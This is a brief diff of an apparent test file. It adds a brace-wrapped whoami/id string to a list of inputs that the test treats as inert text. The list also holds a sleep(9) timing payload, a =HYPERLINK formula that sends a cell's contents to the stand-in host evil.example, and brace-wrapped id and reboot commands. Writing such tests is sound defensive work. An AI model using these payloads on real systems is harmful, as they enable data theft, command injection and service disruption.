@@ -434,6 +434,7 @@ describe('what is written as no command is, by anybody’s shell or database', (
     'sleep(9)',
     '=HYPERLINK("http://evil.example/?"&A1,"x")',
     '{\nid\n}',
+    '{\nwhoami\nid\n}',
     '{\nid\nreboot\n}',
     '<U1234|@whoami> a',
     '<a|@cal> b',
